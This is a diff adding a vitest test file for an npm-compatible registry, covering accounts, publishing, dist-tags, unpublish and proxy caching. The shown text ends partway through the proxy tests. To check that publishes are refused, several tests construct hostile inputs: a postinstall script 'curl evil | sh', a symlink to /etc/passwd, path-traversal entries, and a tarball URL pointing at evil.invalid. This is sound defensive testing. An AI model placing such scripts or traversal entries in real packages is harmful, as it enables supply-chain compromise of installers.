@@ -1,0 +1,754 @@
+// The npm format's endpoints end to end through an in-memory host: publish and read
+// back, the write API, login, search, audit, proxy and group behaviour.
+import { createHash } from 'node:crypto';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { UpstreamError } from '@registry-core/api';
+import { clientConfig, localNpmRegistry } from './client-config.js';
+import { parseDistTagPath, npmFormat } from './npm-format.js';
+import { statusOf } from './testing/assertions.js';
+import { FakeRegistry, FakeUpstream, HOST, type FakeUser, type UpstreamAnswer } from './testing/fake-registry.js';
+import { publishBody } from './testing/publish-body.js';
+import { packageTgz } from './testing/tarballs.js';
+
+const alice: FakeUser = { name: 'alice', permissions: ['read', 'write', 'delete'], token: 'alice-token' };
+const writer: FakeUser = { name: 'wendy', permissions: ['read', 'write'], token: 'wendy-token' };
+const reader: FakeUser = { name: 'rita', permissions: ['read'], token: 'rita-token' };
+const ABBREVIATED = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
+
+const sha512 = (b: Buffer) => createHash('sha512').update(b).digest('base64');
+const sha1 = (b: Buffer) => createHash('sha1').update(b).digest('hex');
+
+/** A published package version: its manifest and tarball. */
+async function pkg(name: string, version: string, extra: Record<string, unknown> = {}) {
+  const manifest = { name, version, description: `${name} does things`, keywords: ['things'], ...extra };
+  return { manifest, tarball: await packageTgz(manifest) };
+}
+
+function registry(options: { upstream?: FakeUpstream } = {}) {
+  const r = new FakeRegistry(npmFormat);
+  r.add('local', 'hosted');
+  r.add('second', 'hosted');
+  r.add('kept', 'hosted', { config: { allowUnpublish: false } });
+  if (options.upstream) {
+    r.add('proxy', 'proxy', { upstream: options.upstream });
+    r.add('group', 'group', { members: ['local', 'proxy'] });
+    r.add('proxy-first', 'group', { members: ['proxy', 'local'] });
+    r.add('inner', 'group', { members: ['local', 'proxy'] });
+    r.add('outer', 'group', { members: ['inner', 'proxy'] });
+  }
+  return r;
+}
+
+async function publish(r: FakeRegistry, repo: string, name: string, version: string, options: { user?: FakeUser; extra?: Record<string, unknown>; tags?: Record<string, string> } = {}) {
+  const { manifest, tarball } = await pkg(name, version, options.extra);
+  const path = `/${name.replace('/', '%2f')}`;
+  return r.request(repo, { method: 'PUT', path, user: options.user ?? alice, body: publishBody(manifest, tarball, { tags: options.tags }) });
+}
+
+/** An upstream registry serving packuments and tarballs of the given packages. */
+async function upstreamWith(packages: { name: string; versions: string[]; extra?: Record<string, unknown> }[]) {
+  const files = new Map<string, Buffer>();
+  const docs = new Map<string, Record<string, unknown>>();
+  const upstream = new FakeUpstream(() => ({ status: 404 }));
+  for (const p of packages) {
+    const versions: Record<string, unknown> = {};
+    for (const v of p.versions) {
+      const { manifest, tarball } = await pkg(p.name, v, p.extra);
+      const file = `${p.name.split('/').pop()}-${v}.tgz`;
+      files.set(`${p.name}/-/${file}`, tarball);
+      versions[v] = { ...manifest, dist: { tarball: `${upstream.base}${p.name}/-/${file}`, integrity: `sha512-${sha512(tarball)}`, shasum: sha1(tarball), signatures: [{ keyid: 'k', sig: 's' }] } };
+    }
+    docs.set(p.name, { _id: p.name, name: p.name, 'dist-tags': { latest: p.versions.at(-1)! }, versions, time: { modified: '2024-05-05T00:00:00.000Z' }, readme: 'upstream readme' });
+  }
+  upstream.handler = (path: string, method: string): UpstreamAnswer => {
+    const decoded = decodeURIComponent(path.split('?')[0]!);
+    if (method === 'GET' && docs.has(decoded)) return { status: 200, body: docs.get(decoded) };
+    if (files.has(decoded)) return { status: 200, body: files.get(decoded) };
+    return { status: 404, body: { error: 'not found' } };
+  };
+  return { upstream, docs, files };
+}
+
+describe('account endpoints', () => {
+  let r: FakeRegistry;
+  beforeEach(() => {
+    r = registry();
+  });
+
+  it('answers ping and whoami', async () => {
+    expect((await r.request('local', { path: '/-/ping' })).json).toEqual({});
+    const anonymous = await r.request('local', { path: '/-/whoami' });
+    expect(anonymous.status).toBe(401);
+    expect(anonymous.headers['www-authenticate']).toBe('Basic realm="registry-core/local"');
+    expect((await r.request('local', { path: '/-/whoami', user: alice })).json).toEqual({ username: 'alice' });
+  });
+
+  it('answers the web login with 404, so npm falls back to the couch login', async () => {
+    const web = await r.request('local', { method: 'POST', path: '/-/v1/login', body: {} });
+    expect(web.status).toBe(404);
+    expect(web.json.error).toMatch(/web login/);
+  });
+
+  it('registers a new user, logs an existing one in, refuses a wrong password with 401', async () => {
+    const couch = (name: string, password: string) =>
+      r.request('local', { method: 'PUT', path: `/-/user/org.couchdb.user:${name}`, body: { _id: `org.couchdb.user:${name}`, name, password, type: 'user', roles: [] } });
+    const added = await couch('bob', 'bob-password');
+    expect(added.status).toBe(201);
+    expect(added.json).toMatchObject({ ok: true, id: 'org.couchdb.user:bob', token: expect.any(String) });
+    const again = await couch('bob', 'bob-password');
+    expect(again.status).toBe(201);
+    expect(again.json.token).not.toBe(added.json.token);
+    const wrong = await couch('bob', 'not-it');
+    expect(wrong.status).toBe(401);
+    expect(wrong.json.error).toMatch(/wrong password/);
+  });
+
+  it('refuses registration when the host disables it, and malformed logins', async () => {
+    r.allowRegistration = false;
+    const refused = await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'eve', password: 'eve-password' } });
+    expect(refused.status).toBe(403);
+    expect((await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'mallory', password: 'x' } })).status).toBe(400);
+    expect((await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'eve' } })).status).toBe(400);
+    expect((await r.request('local', { method: 'PUT', path: '/-/user/eve', body: { name: 'eve', password: 'p' } })).status).toBe(404);
+  });
+
+  it('logs out only with the token being revoked as the credential', async () => {
+    const { token } = await r.auth.addUser('carol', 'carol-password');
+    const carol: FakeUser = { name: 'carol', permissions: ['read'], token };
+    expect((await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}`, user: alice })).status).toBe(401);
+    expect((await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}` })).status).toBe(401);
+    const out = await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}`, user: carol });
+    expect(out.status).toBe(200);
+    expect(await r.auth.revokeToken(token)).toBe(false);
+  });
+});
+
+describe('hosted: publish and read back', () => {
+  let r: FakeRegistry;
+  beforeEach(async () => {
+    r = registry();
+    expect((await publish(r, 'local', 'left-pad', '1.0.0')).status).toBe(201);
+    expect((await publish(r, 'local', '@acme/util', '1.0.0')).status).toBe(201);
+  });
+
+  it('serves the full document with absolute tarball URLs and registry-computed digests', async () => {
+    const { tarball } = await pkg('left-pad', '1.0.0');
+    const answer = await r.request('local', { path: '/left-pad', headers: { accept: 'application/json' } });
+    expect(answer.status).toBe(200);
+    expect(answer.contentType).toMatch(/^application\/json/);
+    expect(answer.headers['vary']).toMatch(/Accept/);
+    expect(answer.headers['vary']).toMatch(/registry-environment/);
+    expect(answer.headers['etag']).toMatch(/^"[0-9a-f]{64}"$/);
+    const doc = answer.json;
+    expect(doc).toMatchObject({
+      _id: 'left-pad',
+      name: 'left-pad',
+      'dist-tags': { latest: '1.0.0' },
+      description: 'left-pad does things',
+      readme: 'the readme',
+      maintainers: [{ name: 'alice' }],
+      time: { created: expect.any(String), modified: expect.any(String), '1.0.0': expect.any(String) },
+      _rev: expect.stringMatching(/^\d+-[0-9a-f]+$/),
+    });
+    const version = doc.versions['1.0.0'];
+    expect(version.dist).toEqual({
+      tarball: `${HOST}/local/left-pad/-/left-pad-1.0.0.tgz`,
+      integrity: `sha512-${sha512(tarball)}`,
+      shasum: sha1(tarball),
+      fileCount: 2,
+      unpackedSize: expect.any(Number),
+    });
+    expect(version).toMatchObject({ _id: 'left-pad@1.0.0', _npmUser: { name: 'alice' } });
+    expect(version).not.toHaveProperty('readme');
+    expect(version).not.toHaveProperty('_attachments');
+    // stored relative, rewritten per request: another host name is fine
+    const stored = await r.repos.get('local')!.documents.get<{ versions: Record<string, { dist: { tarball: string } }> }>('packument/left-pad');
+    expect(stored!.value.versions['1.0.0']!.dist.tarball).toBe('left-pad/-/left-pad-1.0.0.tgz');
+  });
+
+  it('serves the abbreviated document to installers', async () => {
+    const answer = await r.request('local', { path: '/left-pad', headers: { accept: ABBREVIATED } });
+    expect(answer.contentType).toBe('application/vnd.npm.install-v1+json');
+    expect(Object.keys(answer.json).sort()).toEqual(['dist-tags', 'modified', 'name', 'versions']);
+    expect(answer.json.versions['1.0.0']).not.toHaveProperty('description');
+    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${HOST}/local/left-pad/-/left-pad-1.0.0.tgz`);
+    const full = await r.request('local', { path: '/left-pad', headers: { accept: 'application/json' } });
+    expect(full.headers['etag']).not.toBe(answer.headers['etag']);
+  });
+
+  it.each(['/@acme%2futil', '/@acme/util', '/%40acme%2Futil', '/%40acme%2futil'])('serves a scoped name addressed as %s', async (path) => {
+    const answer = await r.request('local', { path });
+    expect(answer.status).toBe(200);
+    expect(answer.json.name).toBe('@acme/util');
+    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${HOST}/local/@acme/util/-/util-1.0.0.tgz`);
+  });
+
+  it('serves tarballs under every URL form npm uses', async () => {
+    const { tarball } = await pkg('@acme/util', '1.0.0');
+    for (const path of ['/@acme/util/-/util-1.0.0.tgz', '/@acme%2futil/-/util-1.0.0.tgz', '/@acme/util/-/@acme/util-1.0.0.tgz']) {
+      const answer = await r.request('local', { path });
+      expect(answer.status, path).toBe(200);
+      expect(answer.bytes.equals(tarball), path).toBe(true);
+    }
+    expect((await r.request('local', { path: '/left-pad/-/left-pad-1.0.0.tgz' })).status).toBe(200);
+    expect((await r.request('local', { path: '/left-pad/-/left-pad-9.9.9.tgz' })).status).toBe(404);
+    expect((await r.request('local', { path: '/left-pad/-/other-1.0.0.tgz' })).status).toBe(404);
+    expect((await r.request('local', { path: '/left-pad/-/..%2f..%2fsecret.tgz' })).status).toBe(400);
+  });
+
+  it('serves one version by number, tag or range', async () => {
+    await publish(r, 'local', 'left-pad', '1.1.0');
+    await publish(r, 'local', 'left-pad', '2.0.0-beta.1', { tags: { beta: '2.0.0-beta.1' } });
+    expect((await r.request('local', { path: '/left-pad/1.0.0' })).json.version).toBe('1.0.0');
+    expect((await r.request('local', { path: '/left-pad/latest' })).json.version).toBe('1.1.0');
+    expect((await r.request('local', { path: '/left-pad/beta' })).json.version).toBe('2.0.0-beta.1');
+    expect((await r.request('local', { path: '/left-pad/%5E1.0.0' })).json.version).toBe('1.1.0');
+    expect((await r.request('local', { path: '/left-pad/3.0.0' })).status).toBe(404);
+    expect((await r.request('local', { path: '/left-pad/constructor' })).status).toBe(404);
+    expect((await r.request('local', { path: '/nope' })).status).toBe(404);
+  });
+
+  it('answers 404 in npm\'s error shape for an unknown package', async () => {
+    const answer = await r.request('local', { path: '/unknown-package' });
+    expect(answer.status).toBe(404);
+    expect(answer.json).toMatchObject({ error: expect.stringMatching(/unknown-package/) });
+  });
+
+  it('keeps a --tag publish off latest; the first publish sets latest', async () => {
+    await publish(r, 'local', 'left-pad', '2.0.0', { tags: { next: '2.0.0' } });
+    expect((await r.request('local', { path: '/-/package/left-pad/dist-tags' })).json).toEqual({ latest: '1.0.0', next: '2.0.0' });
+    await publish(r, 'local', 'fresh', '0.1.0', { tags: { next: '0.1.0' } });
+    expect((await r.request('local', { path: '/-/package/fresh/dist-tags' })).json).toEqual({ latest: '0.1.0', next: '0.1.0' });
+  });
+
+  it('indexes published packages for search', async () => {
+    const found = await r.request('local', { path: '/-/v1/search?text=acme&size=5' });
+    expect(found.json.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['@acme/util']);
+    expect(found.json.objects[0].package).toMatchObject({ version: '1.0.0', description: '@acme/util does things', keywords: ['things'] });
+    expect(found.json.total).toBe(1);
+    expect((await r.request('local', { path: '/-/v1/search?text=a&size=-1' })).status).toBe(400);
+    r.maxSearchResults = 1;
+    expect((await r.request('local', { path: '/-/v1/search?text=&size=100' })).json.objects).toHaveLength(1);
+  });
+});
+
+describe('hosted: publish refusals', () => {
+  let r: FakeRegistry;
+  beforeEach(() => {
+    r = registry();
+  });
+
+  const put = (body: unknown, options: { path?: string; user?: FakeUser } = {}) => r.request('local', { method: 'PUT', path: options.path ?? '/p', user: 'user' in options ? options.user : alice, body });
+
+  async function expectRefused(answer: { status: number; json: { error: string } }, status: number, message: RegExp) {
+    expect(answer.status, JSON.stringify(answer.json)).toBe(status);
+    expect(answer.json.error).toMatch(message);
+    const stored = r.repos.get('local')!;
+    expect(stored.assets.items.size, 'no tarball stored').toBe(0);
+    expect(stored.documents.items.size, 'no document stored').toBe(0);
+  }
+
+  it('needs write permission', async () => {
+    const { manifest, tarball } = await pkg('p', '1.0.0');
+    expect((await put(publishBody(manifest, tarball), { user: undefined })).status).toBe(401);
+    await expectRefused(await put(publishBody(manifest, tarball), { user: reader }), 403, /rita/);
+  });
+
+  it('refuses invalid versions and names', async () => {
+    const { manifest, tarball } = await pkg('p', '1.0');
+    await expectRefused(await put(publishBody(manifest, tarball)), 400, /not a valid semver/);
+    const upper = await pkg('Upper', '1.0.0');
+    await expectRefused(await put(publishBody(upper.manifest, upper.tarball), { path: '/Upper' }), 400, /lowercase/);
+    const core = await pkg('http', '1.0.0');
+    await expectRefused(await put(publishBody(core.manifest, core.tarball), { path: '/http' }), 400, /core module/);
+    const good = await pkg('p', '1.0.0');
+    await expectRefused(await put(publishBody(good.manifest, good.tarball), { path: '/q' }), 400, /does not match the URL/);
+  });
+
+  it('refuses a body that is no single-version publish', async () => {
+    const { manifest, tarball } = await pkg('p', '1.0.0');
+    const body = publishBody(manifest, tarball);
+    await expectRefused(await put('just a string'), 400, /JSON package document/);
+    await expectRefused(await put({ ...body, versions: {} }), 400, /exactly one version/);
+    await expectRefused(await put({ ...body, _attachments: {} }), 400, /exactly one tarball/);
+    await expectRefused(await put(publishBody(manifest, tarball, { extraAttachments: { 'p-2.0.0.tgz': { data: 'AA==' } } })), 400, /exactly one tarball/);
+    await expectRefused(await put(publishBody(manifest, tarball, { attachmentName: 'p-9.9.9.tgz' })), 400, /not the tarball of p@1\.0\.0/);
+    await expectRefused(await put(publishBody(manifest, tarball, { manifest: { version: '2.0.0' } })), 400, /same package and version/);
+  });
+
+  it('checks the tarball against integrity, shasum and length', async () => {
+    const { manifest, tarball } = await pkg('p', '1.0.0');
+    const other = (await pkg('p', '1.0.1')).tarball;
+    await expectRefused(await put(publishBody(manifest, tarball, { integrity: `sha512-${sha512(other)}` })), 400, /sha512/);
+    await expectRefused(await put(publishBody(manifest, tarball, { integrity: 'md5-AAAA', shasum: sha1(other) })), 400, /sha1/);
+    await expectRefused(await put(publishBody(manifest, tarball, { integrity: 'nothing', shasum: 'nothing' })), 400, /no dist\.integrity or dist\.shasum/);
+    await expectRefused(await put(publishBody(manifest, tarball, { length: tarball.length + 1 })), 400, /announces a length/);
+    await expectRefused(await put(publishBody(manifest, tarball, { length: -1 })), 400, /non-negative integer/);
+    const body = publishBody(manifest, tarball);
+    (body['_attachments'] as Record<string, { data: string }>)['p-1.0.0.tgz']!.data = '!!!not base64!!!';
+    await expectRefused(await put(body), 400, /not base64/);
+  });
+
+  it('answers 413 above the upload limit', async () => {
+    r.maxUploadBytes = 100;
+    const { manifest, tarball } = await pkg('p', '1.0.0');
+    await expectRefused(await put(publishBody(manifest, tarball)), 413, /limit/);
+    await expectRefused(await put(publishBody(manifest, tarball, { length: undefined })), 413, /100/);
+  });
+
+  it('refuses hostile tarballs and manifest confusion, naming the problem', async () => {
+    const manifest = { name: 'p', version: '1.0.0' };
+    const withLink = await packageTgz(manifest, [{ name: 'package/l', type: 'symlink', linkname: '/etc/passwd' }]);
+    await expectRefused(await put(publishBody(manifest, withLink)), 400, /symlink/);
+    const escaping = await packageTgz(manifest, [{ name: 'package/../../evil', content: 'x' }]);
+    await expectRefused(await put(publishBody(manifest, escaping)), 400, /\.\./);
+    const plain = Buffer.from('not a tarball');
+    await expectRefused(await put(publishBody(manifest, plain)), 400, /gzip/);
+    const sneaky = await packageTgz({ ...manifest, scripts: { postinstall: 'curl evil | sh' } });
+    await expectRefused(await put(publishBody(manifest, sneaky)), 400, /"scripts"/);
+    const deps = await packageTgz({ ...manifest, dependencies: { evil: '*' } });
+    await expectRefused(await put(publishBody(manifest, deps)), 400, /"dependencies"/);
+  });
+
+  it('never lets a version be republished, even after it was unpublished', async () => {
+    expect((await publish(r, 'local', 'p', '1.0.0')).status).toBe(201);
+    expect((await publish(r, 'local', 'p', '1.0.1')).status).toBe(201);
+    const again = await publish(r, 'local', 'p', '1.0.0');
+    expect(again.status).toBe(403);
+    expect(again.json.error).toMatch(/cannot modify pre-existing version: 1\.0\.0/);
+    const doc = (await r.request('local', { path: '/p' })).json;
+    delete doc.versions['1.0.0'];
+    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
+    const reused = await publish(r, 'local', 'p', '1.0.0');
+    expect(reused.status).toBe(403);
+    expect(reused.json.error).toMatch(/never reused/);
+  });
+
+  it('replaces an old tarball left by a publish that died before its document, but not a fresh one', async () => {
+    const { manifest, tarball } = await pkg('p', '1.0.0');
+    const assets = r.repos.get('local')!.assets;
+    await assets.put('p/-/p-1.0.0.tgz', Buffer.from('half a publish'), { kind: 'content', contentType: 'application/octet-stream' });
+    const inFlight = await put(publishBody(manifest, tarball));
+    expect(inFlight.status).toBe(409);
+    const leftover = assets.items.get('p/-/p-1.0.0.tgz')!;
+    assets.items.set('p/-/p-1.0.0.tgz', { ...leftover, createdAt: new Date(Date.now() - 3600_000) });
+    expect((await put(publishBody(manifest, tarball))).status).toBe(201);
+    expect(assets.items.get('p/-/p-1.0.0.tgz')!.bytes.equals(tarball)).toBe(true);
+  });
+});
+
+describe('hosted: dist-tags, deprecate, unpublish', () => {
+  let r: FakeRegistry;
+  beforeEach(async () => {
+    r = registry();
+    for (const v of ['1.0.0', '1.1.0', '2.0.0']) expect((await publish(r, 'local', 'p', v)).status).toBe(201);
+    expect((await publish(r, 'local', '@s/q', '1.0.0')).status).toBe(201);
+  });
+
+  const tags = async (path = '/-/package/p/dist-tags') => (await r.request('local', { path })).json;
+
+  it('adds, moves and removes dist-tags', async () => {
+    expect(await tags()).toEqual({ latest: '2.0.0' });
+    expect((await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/beta', user: alice, body: '1.1.0' })).status).toBe(201);
+    expect(await tags()).toEqual({ latest: '2.0.0', beta: '1.1.0' });
+    expect((await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/latest', user: writer, body: '1.0.0' })).status).toBe(201);
+    expect((await r.request('local', { path: '/p/latest' })).json.version).toBe('1.0.0');
+    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/beta', user: alice })).status).toBe(201);
+    expect(await tags()).toEqual({ latest: '1.0.0' });
+  });
+
+  it('handles scoped names in dist-tag paths', async () => {
+    expect(await tags('/-/package/@s%2fq/dist-tags')).toEqual({ latest: '1.0.0' });
+    expect(await tags('/-/package/@s/q/dist-tags')).toEqual({ latest: '1.0.0' });
+    expect((await r.request('local', { method: 'PUT', path: '/-/package/@s%2fq/dist-tags/next', user: alice, body: '1.0.0' })).status).toBe(201);
+    expect(await tags('/-/package/@s/q/dist-tags')).toEqual({ latest: '1.0.0', next: '1.0.0' });
+  });
+
+  it('refuses bad dist-tag changes', async () => {
+    const put = (tag: string, body: unknown, user: FakeUser | 'anonymous' = alice) =>
+      r.request('local', { method: 'PUT', path: `/-/package/p/dist-tags/${tag}`, user: user === 'anonymous' ? undefined : user, body });
+    expect((await put('beta', '9.9.9')).status).toBe(404);
+    expect((await put('beta', 'not-a-version')).status).toBe(400);
+    expect((await put('beta', { version: '1.0.0' })).status).toBe(400);
+    expect((await put('1.x', '1.0.0')).status).toBe(400);
+    expect((await put('v2', '1.0.0')).status).toBe(400);
+    expect((await put('beta', '1.0.0', reader)).status).toBe(403);
+    expect((await put('beta', '1.0.0', 'anonymous')).status).toBe(401);
+    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/latest', user: alice })).status).toBe(400);
+    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/nope', user: alice })).status).toBe(404);
+    expect((await r.request('local', { method: 'PUT', path: '/-/package/unknown/dist-tags/beta', user: alice, body: '1.0.0' })).status).toBe(404);
+    expect(await tags()).toEqual({ latest: '2.0.0' });
+  });
+
+  it('deprecates and undeprecates, ignoring any other change in the document', async () => {
+    const doc = (await r.request('local', { path: '/p?write=true', headers: { accept: 'application/json' } })).json;
+    doc.versions['1.0.0'].deprecated = 'use 2.x';
+    doc.versions['1.0.0'].dependencies = { evil: '*' };
+    doc.versions['1.0.0'].dist.tarball = 'http://evil.invalid/x.tgz';
+    doc.description = 'changed';
+    const answer = await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: writer, body: doc });
+    expect(answer.status).toBe(200);
+    const after = (await r.request('local', { path: '/p' })).json;
+    expect(after.versions['1.0.0'].deprecated).toBe('use 2.x');
+    expect(after.versions['1.0.0']).not.toHaveProperty('dependencies');
+    expect(after.versions['1.0.0'].dist.tarball).toBe(`${HOST}/local/p/-/p-1.0.0.tgz`);
+    expect(after.description).toBe('p does things');
+    expect((await r.request('local', { path: '/p', headers: { accept: ABBREVIATED } })).json.versions['1.0.0'].deprecated).toBe('use 2.x');
+
+    after.versions['1.0.0'].deprecated = '';
+    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${after._rev}`, user: writer, body: after })).status).toBe(200);
+    expect((await r.request('local', { path: '/p' })).json.versions['1.0.0']).not.toHaveProperty('deprecated');
+  });
+
+  it('refuses a document update on a stale revision or naming unknown versions', async () => {
+    const doc = (await r.request('local', { path: '/p' })).json;
+    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/0-stale`, user: alice, body: doc })).status).toBe(409);
+    doc.versions['9.9.9'] = { name: 'p', version: '9.9.9' };
+    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(400);
+  });
+
+  it('unpublishes a version: document, tarball and search entry go, latest is recomputed', async () => {
+    const doc = (await r.request('local', { path: '/p' })).json;
+    delete doc.versions['2.0.0'];
+    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: writer, body: doc })).status).toBe(403);
+    const removed = await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc });
+    expect(removed.status).toBe(200);
+    const after = (await r.request('local', { path: '/p' })).json;
+    expect(Object.keys(after.versions)).toEqual(['1.0.0', '1.1.0']);
+    expect(after['dist-tags']).toEqual({ latest: '1.1.0' });
+    expect((await r.request('local', { path: '/p/-/p-2.0.0.tgz' })).status).toBe(404);
+    expect(await r.repos.get('local')!.components.versions('p')).toHaveLength(2);
+    // npm then deletes the tarball itself
+    const tarball = await r.request('local', { method: 'DELETE', path: `/p/-/p-2.0.0.tgz/-rev/${after._rev}`, user: alice });
+    expect(tarball.status).toBe(200);
+    // a tarball still listed cannot be deleted on its own
+    expect((await r.request('local', { method: 'DELETE', path: `/p/-/p-1.0.0.tgz/-rev/${after._rev}`, user: alice })).status).toBe(409);
+  });
+
+  it('removes the package with its last version', async () => {
+    const doc = (await r.request('local', { path: '/@s%2fq' })).json;
+    doc.versions = {};
+    expect((await r.request('local', { method: 'PUT', path: `/@s%2fq/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
+    expect((await r.request('local', { path: '/@s%2fq' })).status).toBe(404);
+    expect(r.repos.get('local')!.assets.items.has('@s/q/-/q-1.0.0.tgz')).toBe(false);
+  });
+
+  it('unpublishes a whole package', async () => {
+    const doc = (await r.request('local', { path: '/p' })).json;
+    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: writer })).status).toBe(403);
+    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: alice })).status).toBe(200);
+    expect((await r.request('local', { path: '/p' })).status).toBe(404);
+    expect((await r.request('local', { path: '/p/-/p-1.0.0.tgz' })).status).toBe(404);
+    expect((await r.request('local', { path: '/-/v1/search?text=p' })).json.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['@s/q']);
+    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: alice })).status).toBe(404);
+  });
+
+  it('forbids every unpublish where allowUnpublish is false, but still allows deprecation', async () => {
+    expect((await publish(r, 'kept', 'k', '1.0.0')).status).toBe(201);
+    expect((await publish(r, 'kept', 'k', '1.0.1')).status).toBe(201);
+    const doc = (await r.request('kept', { path: '/k' })).json;
+    const whole = await r.request('kept', { method: 'DELETE', path: `/k/-rev/${doc._rev}`, user: alice });
+    expect(whole.status).toBe(403);
+    expect(whole.json.error).toMatch(/unpublishing is disabled in kept/);
+    const oneVersion = structuredClone(doc);
+    delete oneVersion.versions['1.0.0'];
+    expect((await r.request('kept', { method: 'PUT', path: `/k/-rev/${doc._rev}`, user: alice, body: oneVersion })).status).toBe(403);
+    expect((await r.request('kept', { method: 'DELETE', path: `/k/-/k-1.0.0.tgz/-rev/${doc._rev}`, user: alice })).status).toBe(403);
+    doc.versions['1.0.0'].deprecated = 'old';
+    expect((await r.request('kept', { method: 'PUT', path: `/k/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
+    expect(Object.keys((await r.request('kept', { path: '/k' })).json.versions)).toEqual(['1.0.0', '1.0.1']);
+  });
+
+  it('points latest at an environment tag, in full and abbreviated documents', async () => {
+    await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/staging', user: alice, body: '1.1.0' });
+    for (const accept of ['application/json', ABBREVIATED]) {
+      const staged = await r.request('local', { path: '/p', headers: { accept, 'registry-environment': 'staging' } });
+      expect(staged.json['dist-tags'].latest, accept).toBe('1.1.0');
+      const plain = await r.request('local', { path: '/p', headers: { accept } });
+      expect(plain.json['dist-tags'].latest, accept).toBe('2.0.0');
+      expect(staged.headers['etag']).not.toBe(plain.headers['etag']);
+      const unknown = await r.request('local', { path: '/p', headers: { accept, 'registry-environment': 'nope' } });
+      expect(unknown.json['dist-tags'].latest).toBe('2.0.0');
+      expect(unknown.headers['etag']).toBe(plain.headers['etag']);
+    }
+    expect((await r.request('local', { path: '/p/latest', headers: { 'registry-environment': 'staging' } })).json.version).toBe('1.1.0');
+  });
+});
+
+describe('proxy', () => {
+  let r: FakeRegistry;
+  let up: Awaited<ReturnType<typeof upstreamWith>>;
+  beforeEach(async () => {
+    up = await upstreamWith([
+      { name: 'pub', versions: ['1.0.0', '1.1.0'] },
+      { name: '@pub/scoped', versions: ['3.0.0'] },
+      { name: 'JSONStream', versions: ['1.3.5'] },
+    ]);
+    r = registry({ upstream: up.upstream });
+  });
+
+  it('serves the upstream document with tarballs rewritten and digests untouched', async () => {
+    const answer = await r.request('proxy', { path: '/pub', headers: { accept: 'application/json' } });
+    expect(answer.status).toBe(200);
+    expect(answer.headers['x-cache']).toBe('MISS');
+    const version = answer.json.versions['1.0.0'];
+    const upstreamVersion = (up.docs.get('pub')!['versions'] as Record<string, { dist: Record<string, unknown> }>)['1.0.0']!;
+    expect(version.dist).toEqual({ ...upstreamVersion.dist, tarball: `${HOST}/proxy/pub/-/pub-1.0.0.tgz` });
+    expect(answer.json.readme).toBe('upstream readme');
+    expect(up.upstream.requests).toContain('GET pub');
+  });
+
+  it('asks the upstream for a scoped name with the slash encoded, and reads legacy mixed-case names', async () => {
+    expect((await r.request('proxy', { path: '/@pub%2fscoped' })).json.versions['3.0.0'].dist.tarball).toBe(`${HOST}/proxy/@pub/scoped/-/scoped-3.0.0.tgz`);
+    expect(up.upstream.requests).toContain('GET @pub%2fscoped');
+    expect((await r.request('proxy', { path: '/JSONStream', headers: { accept: ABBREVIATED } })).json['dist-tags'].latest).toBe('1.3.5');
+  });
+
+  it('fetches a tarball from where the upstream said, verifies it, then serves it from the cache', async () => {
+    const first = await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' });
+    expect(first.status).toBe(200);
+    expect(first.bytes.equals(up.files.get('pub/-/pub-1.0.0.tgz')!)).toBe(true);
+    expect(up.upstream.requests).toContain('GET pub/-/pub-1.0.0.tgz');
+    const before = up.upstream.requests.length;
+    const second = await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' });
+    expect(second.headers['x-cache']).toBe('HIT');
+    expect(up.upstream.requests.length).toBe(before);
+    expect((await r.request('proxy', { path: '/@pub/scoped/-/scoped-3.0.0.tgz' })).status).toBe(200);
+  });
+
+  it('refuses a tarball that does not match the announced integrity, and stores nothing', async () => {
+    up.files.set('pub/-/pub-1.1.0.tgz', Buffer.from('tampered'));
+    const answer = await r.request('proxy', { path: '/pub/-/pub-1.1.0.tgz' });
+    expect(answer.status).toBe(502);
+    expect(answer.json.error).toMatch(/does not match its announced digest/);
+    expect(r.repos.get('proxy')!.assets.items.has('pub/-/pub-1.1.0.tgz')).toBe(false);
+  });
+
+  it('answers 404 for a tarball the upstream does not list, without asking for it', async () => {
+    expect((await r.request('proxy', { path: '/pub/-/pub-9.9.9.tgz' })).status).toBe(404);
+    expect(up.upstream.requests.some((q) => q.includes('9.9.9'))).toBe(false);
+    expect((await r.request('proxy', { path: '/missing' })).status).toBe(404);
+  });
+
+  it('falls back to the conventional tarball path when the upstream points elsewhere', async () => {
+    const versions = up.docs.get('pub')!['versions'] as Record<string, { dist: { tarball: string } }>;
+    versions['1.0.0']!.dist.tarball = 'https://cdn.elsewhere.invalid/files/pub-1.0.0.tgz';
+    expect((await r.request('proxy', { path: '/pub/-/pub-1.0.0.tgz' })).status).toBe(200);
+    expect(up.upstream.requests).toContain('GET pub/-/pub-1.0.0.tgz');
+  });
+
